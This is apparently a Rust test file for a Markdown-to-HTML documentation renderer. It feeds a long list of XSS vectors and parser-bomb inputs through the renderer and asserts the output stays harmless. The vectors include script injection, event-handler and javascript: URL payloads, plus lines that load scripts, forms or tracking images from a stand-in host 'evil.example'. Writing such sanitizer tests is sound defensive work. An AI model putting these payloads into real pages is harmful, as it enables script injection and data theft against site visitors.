//! Markdown of a hostile author.

use meshdoc::model::document::{Document, Heading};
use meshdoc::site::markdown::{Place, render_text};
use meshdoc::source::markdown::parse;

use super::dom::{assert_harmless, attributes};

fn rendered(text: &str) -> String {
    static MESH: std::sync::LazyLock<meshdoc::model::Mesh> = std::sync::LazyLock::new(|| super::mesh(&super::tree()));
    let parsed = parse(text, 0);
    let headings =
        parsed.headings.iter().map(|h| Heading { level: h.level, text: h.text.clone(), anchor: h.anchor.clone() });
    let document = Document { headings: headings.collect(), ..Document::default() };
    static THEME: std::sync::LazyLock<meshdoc::site::Theme> = std::sync::LazyLock::new(meshdoc::site::Theme::builtin);
    let linked = std::cell::RefCell::default();
    let place = Place {
        words: THEME.words(),
        linked: &linked,
        source: &|_| None,
        mesh: &MESH,
        from: "domains/sales/orders/docs/counting.md",
        page: "products/sales/orders/docs/counting/index.html",
        headings: &document.headings,
        readme: false,
        lower: 0,
        title: None,
        html: true,
    };
    render_text(&text[parsed.body_offset..], &place).as_str().to_owned()
}

/// Attacks as they are collected by OWASP and others, each once as it is and once beside harmless HTML.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x`\" `onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.example/track.png>",
    "<img srcset=\"https://evil.example/x 1x\">",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p class=\"skip bar\">x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"https://example.com\" target=_blank ping=https://evil.example>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<b id=content>x</b><b id=bar-search>x</b>",
    "<a name=content id=content>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<p/onclick=alert(1)>x",
    "<div aria-label=x role=dialog tabindex=1>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option><script>alert(1)</script></select>",
    "</div></main></body><script>alert(1)</script>",
    "# x {onclick=alert(1)}",
    "# <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.com \"\\\"onmouseover=alert(1) x=\\\"\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![\\\" onerror=alert(1) x=\\\"](flow.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\u{202e}<script>alert(1)</script>",
];

#[test]
fn hostile_markdown_is_harmless() {
    for vector in VECTORS {
        for text in
            [(*vector).to_owned(), format!("<div>\n\n{vector}\n\n</div>\n\n<b>x</b> {vector}"), format!("> - {vector}")]
        {
            let html = rendered(&text);
            assert_harmless(&html, &text);
            let mut forms = Vec::new();
            for id in attributes(&html, "id") {
                assert!(id != "content" && id != "bar-search", "{text}: takes the id {id} of the page");
                forms.push(id);
            }
            assert!(!html.contains("<script") && !html.contains("<form") && !html.contains("<input"), "{text}\n{html}");
            for class in attributes(&html, "class") {
                assert!(!class.contains("skip"), "{text}: takes a class of the page");
            }
        }
    }
}

#[test]
fn harmless_html_stays() {
    let html = rendered(
        "<details>\n<summary>More</summary>\n\nSome **bold** text, <kbd>Ctrl</kbd>.\n\n</details>\n\n<a id=\"own\"></a><a href=\"../README.md\">up</a> <a href=\"term:email\">mail</a> <a href=\"nowhere.md\">x</a> <img src=\"flow.png\" width=\"40\">\n\n# Title\n\n[self](#own) [title](#title)\n",
    );
    for part in [
        "<summary>More</summary>",
        "<strong>bold</strong>",
        "<kbd>Ctrl</kbd>",
        "href=\"../../index.html#readme\"",
        "glossary/email/index.html\"",
        "src=\"../../../../../files/domains/sales/orders/docs/flow.png\"",
        "id=\"title\"",
        "id=\"user-content-own\"",
        "class=\"self-link\"",
        "<a rel=\"noopener noreferrer nofollow\">x</a>",
    ] {
        assert!(html.contains(part), "{part}\n{html}");
    }
    assert!(!html.contains("m0") || !html.contains("/\""), "no mark is left");
}

#[test]
fn bombs_end() {
    let bombs = [
        ">".repeat(100_000),
        "- ".repeat(50_000),
        "[".repeat(100_000),
        "*a **a ".repeat(5_000),
        format!("{}\n\n{}", "<b id=x>".repeat(2_000), "a\n\n".repeat(5_000)),
        (0..3_000).map(|n| format!("<font color={n}>")).collect::<String>() + &"\n\na".repeat(3_000),
        "<div>".repeat(10_000),
        "<table><tr><td>".repeat(2_000),
        (0..700).map(|n| format!("{}- a\n", "  ".repeat(n.min(200)))).collect(),
        "[a]: https://example.com/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n\n".to_owned()
            + &"[a]".repeat(20_000),
        "[x](nowhere.md) ".repeat(20_000),
        "[^1] ".repeat(20_000) + "\n\n[^1]: x",
        "![](".repeat(20_000),
        "# a\n".repeat(10_000),
        "|".repeat(20_000) + "\n" + &"|-".repeat(20_000) + "|\n" + &"|\n".repeat(100),
    ];
    for bomb in bombs {
        let start = std::time::Instant::now();
        let html = rendered(&bomb);
        eprintln!("{:?} {}", start.elapsed(), &bomb[..20.min(bomb.len())]);
        assert!(html.len() <= bomb.len() * 11 + 128 * 1024, "{} became {}", &bomb[..20.min(bomb.len())], html.len());
    }
}
